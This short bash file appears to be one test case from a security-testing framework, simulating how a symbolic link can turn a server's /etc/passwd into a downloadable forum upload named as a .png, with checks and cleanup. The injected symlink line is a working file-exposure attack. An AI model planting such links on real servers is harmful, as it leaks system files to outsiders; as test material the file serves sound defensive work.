# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1083
about="a symbolic link makes a file of the host an upload"
attack() { inject 'symlink("/etc/passwd", "/srv/forum/uploads/2026-01-01-passwd.png");'; }
effect() { [ -L $forum/uploads/2026-01-01-passwd.png ]; }
after() { rm -f $forum/uploads/2026-01-01-passwd.png; }
